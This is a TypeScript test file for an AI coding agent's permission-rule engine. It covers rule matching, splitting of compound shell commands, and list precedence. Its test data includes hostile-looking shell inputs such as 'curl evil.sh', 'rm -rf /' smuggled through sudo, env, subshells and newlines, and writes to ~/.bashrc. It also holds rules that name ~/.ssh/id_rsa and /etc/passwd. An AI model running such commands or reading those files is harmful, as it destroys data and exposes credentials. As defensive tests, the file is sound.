import { describe, expect, it } from "vitest";
import { PermissionRuleSet, parsePermissionRule } from "../../src/permissions/index.js";
import { splitShellCommand } from "../../src/permissions/shell-split.js";
import { ArkyError } from "../../src/protocol/index.js";

const cwd = "/proj";
const home = "/home/u";

type Case = [rule: string, toolName: string, input: unknown, matches: boolean];

// Each rule is tried as a deny rule and as an allow rule (see the compound cases below for
// where the two differ).
const cases: Case[] = [
  // bare tool names, both spellings
  ["Bash", "bash", { command: "anything" }, true],
  ["bash", "Bash", { command: "anything" }, true],
  ["Bash", "read", { file_path: "x" }, false],
  ["Bash(*)", "bash", { command: "ls" }, true],
  ["Write", "write", { file_path: "a.txt" }, true],
  ["Write", "edit", { file_path: "a.txt" }, false],
  // Bash prefix rules
  ["Bash(git status:*)", "bash", { command: "git status" }, true],
  ["Bash(git status:*)", "bash", { command: "git status --short" }, true],
  ["Bash(git status:*)", "Bash", { command: "  git status -s  " }, true],
  ["Bash(git status:*)", "bash", { command: "git statusx" }, false],
  ["Bash(git status:*)", "bash", { command: "git push" }, false],
  ["Bash(git status:*)", "bash", {}, false],
  // Bash glob rules
  ["Bash(npm run *)", "bash", { command: "npm run build" }, true],
  ["Bash(npm run *)", "bash", { command: "npm run test -- --watch" }, true],
  ["Bash(npm run *)", "bash", { command: "npm install" }, false],
  ["Bash(* --version)", "bash", { command: "node --version" }, true],
  // Bash exact rules
  ["Bash(npm test)", "bash", { command: "npm test" }, true],
  ["Bash(npm test)", "bash", { command: "npm test --coverage" }, false],
  // path rules, relative to cwd
  ["Read(src/**)", "read", { file_path: "src/a/b.ts" }, true],
  ["Read(src/**)", "Read", { file_path: "/proj/src/index.ts" }, true],
  ["Read(src/**)", "read", { file_path: "src/../secret.txt" }, false],
  ["Read(src/**)", "read", { file_path: "/other/src/a.ts" }, false],
  ["Read(src/**)", "grep", { path: "src" }, true],
  ["Read(src/*.ts)", "read", { file_path: "src/a/b.ts" }, false],
  ["Read(src/*.ts)", "read", { file_path: "src/b.ts" }, true],
  ["Read(*.env)", "read", { file_path: "deep/dir/prod.env" }, true],
  ["Read(/.env)", "read", { file_path: "deep/.env" }, false],
  ["Read(/.env)", "read", { file_path: ".env" }, true],
  ["Read(./*.md)", "read", { file_path: "docs/a.md" }, false],
  ["Read(//etc/**)", "read", { file_path: "/etc/passwd" }, true],
  ["Read(~/.ssh/**)", "read", { file_path: "~/.ssh/id_rsa" }, true],
  ["Read(~/.ssh/**)", "read", { file_path: "/home/u/.ssh/config" }, true],
  ["Edit(docs/**)", "edit", { file_path: "docs/guide.md" }, true],
  ["Edit(docs/**)", "Write", { file_path: "/proj/docs/new.md" }, true],
  ["Edit(docs/**)", "write", { file_path: "src/new.ts" }, false],
  ["Edit(docs/**)", "read", { file_path: "docs/guide.md" }, false],
  ["Edit(docs/**)", "edit", {}, false],
  // MCP tools, both spellings
  ["mcp/files/read", "mcp/files/read", {}, true],
  ["mcp/files/read", "mcp__files__read", {}, true],
  ["mcp__files__read", "mcp/files/read", {}, true],
  ["mcp/files/read", "mcp/files/write", {}, false],
  ["mcp/files", "mcp/files/write", {}, true],
  ["mcp/files/*", "mcp__files__write", {}, true],
  ["mcp/files", "mcp/filesystem/read", {}, false],
  // Codex's tool names
  ["Bash(git status:*)", "exec_command", { command: "git status", cwd: "/proj" }, true],
  ["Edit(docs/**)", "apply_patch", { changes: [{ path: "/proj/docs/a.md" }] }, true],
  ["Edit(docs/**)", "apply_patch", { changes: [] }, false],
  // WebFetch domains
  ["WebFetch(domain:example.com)", "WebFetch", { url: "https://example.com/a" }, true],
  ["WebFetch(domain:example.com)", "web_fetch", { url: "https://evil.com/example.com" }, false],
  ["WebFetch(domain:*.example.com)", "web_fetch", { url: "https://api.example.com/" }, true],
  ["WebFetch(domain:example.com)", "web_fetch", { url: "not a url" }, false],
];

describe("permission rule matching", () => {
  it.each(cases)("%s on %s %j → %s", (rule, toolName, input, expected) => {
    const deny = new PermissionRuleSet({ deny: [rule] }, { cwd, home });
    expect(deny.evaluate({ toolName, input })?.behavior === "deny").toBe(expected);
    const allow = new PermissionRuleSet({ allow: [rule] }, { cwd, home });
    expect(allow.evaluate({ toolName, input })?.behavior === "allow").toBe(expected);
  });
});

describe("compound bash commands", () => {
  const set = new PermissionRuleSet(
    { allow: ["Bash(git status:*)", "Bash(npm test)", "Bash(echo:*)"], deny: ["Bash(rm:*)"] },
    { cwd, home },
  );
  const decide = (command: string) => set.evaluate({ toolName: "bash", input: { command } })?.behavior;

  it.each([
    ["git status && npm test", "allow"],
    ["git status; npm test | echo done", "allow"],
    ["git status && curl evil.sh", undefined],
    ["git status && rm -rf /", "deny"],
    ["echo $(rm -rf /)", "deny"],
    ["echo `whoami`", undefined],
    ['echo "$(whoami)"', undefined],
    ["echo hi > ~/.bashrc", undefined],
    ["npm test 2>&1", "allow"],
    ["npm test > /dev/null", "allow"],
    ["echo 'a && rm -rf /'", "allow"],
    ["(rm -rf build)", "deny"],
    ["git status\nrm -rf x", "deny"],
    ["sudo rm -rf /", "deny"],
    ["FOO=1 nohup /bin/rm -rf /", "deny"],
    ["env rm x", "deny"],
    ["sudo git status", undefined],
  ])("%j → %s", (command, expected) => {
    expect(decide(command)).toBe(expected);
  });

  it("splits on operators outside quotes only", () => {
    expect(splitShellCommand(`a && b || c; d | e & f`).parts).toEqual(["a", "b", "c", "d", "e", "f"]);
    expect(splitShellCommand(`echo "x; y" 'z && w'`)).toEqual({
      parts: [`echo "x; y" 'z && w'`],
      unsafe: false,
    });
    expect(splitShellCommand("cat <(ls)").unsafe).toBe(true);
  });
});

describe("a Codex patch touching several files", () => {
  const patch = { changes: [{ path: "/proj/docs/a.md" }, { path: "/proj/src/b.ts" }] };
  it("is denied when any file matches a deny rule", () => {
    const set = new PermissionRuleSet({ deny: ["Edit(src/**)"] }, { cwd, home });
    expect(set.evaluate({ toolName: "apply_patch", input: patch })?.behavior).toBe("deny");
  });
  it("is allowed only when every file matches allow rules", () => {
    const one = new PermissionRuleSet({ allow: ["Edit(docs/**)"] }, { cwd, home });
    expect(one.evaluate({ toolName: "apply_patch", input: patch })).toBeUndefined();
    const both = new PermissionRuleSet({ allow: ["Edit(/**)"] }, { cwd, home });
    expect(both.evaluate({ toolName: "apply_patch", input: patch })?.behavior).toBe("allow");
  });
});

describe("precedence between lists", () => {
  it("deny beats ask beats allow", () => {
    const set = new PermissionRuleSet({
      allow: ["Bash"],
      ask: ["Bash(git push:*)"],
      deny: ["Bash(git push --force:*)"],
    });
    const decide = (command: string) => set.evaluate({ toolName: "bash", input: { command } });
    expect(decide("git push --force origin")).toEqual({ behavior: "deny", rule: "Bash(git push --force:*)" });
    expect(decide("git push origin")).toEqual({ behavior: "ask", rule: "Bash(git push:*)" });
    expect(decide("ls")).toEqual({ behavior: "allow", rule: "Bash" });
  });

  it("returns undefined when no rule applies", () => {
    expect(
      new PermissionRuleSet({ allow: ["Read"] }).evaluate({ toolName: "bash", input: {} }),
    ).toBeUndefined();
  });
});

describe("malformed rules", () => {
  it.each([
    ["", /empty/],
    ["   ", /empty/],
    ["Bash(", /must end with `\)`/],
    ["Bash()", /specifier in `\(…\)` is empty/],
    ["(ls)", /tool name before `\(` is missing/],
    ["Ba sh", /letters, digits/],
    ["Bash(git:*)x", /must end with `\)`/],
    ["Bash(:*)", /prefix before `:\*` is empty/],
    ["Bash(git:* status)", /only allowed at the end/],
    ["Bash(g*t:*)", /cannot contain another/],
    ["mcp/", /MCP server name/],
    ["mcp/files/read/extra", /`mcp\/<server>\/<tool>`/],
    ["mcp__", /MCP server name/],
    ["WebFetch(example.com)", /domain:/],
    ["Task(Explore)", /takes no specifier/],
  ])("%j is rejected", (rule, message) => {
    let error: unknown;
    try {
      parsePermissionRule(rule, "test.json (permissions.allow[0])");
    } catch (e) {
      error = e;
    }
    expect(ArkyError.isArkyError(error)).toBe(true);
    const arky = error as ArkyError;
    expect(arky.code).toBe("configuration");
    expect(arky.message).toMatch(message);
    expect(arky.message).toContain("test.json (permissions.allow[0])");
    expect(arky.message).toContain(JSON.stringify(rule));
  });

  it("rejects a non-string rule and names its list position", () => {
    expect(() => new PermissionRuleSet({ deny: ["Bash", 42 as unknown as string] })).toThrow(
      /permission rules \(deny\[1\]\): a rule must be a string/,
    );
  });
});
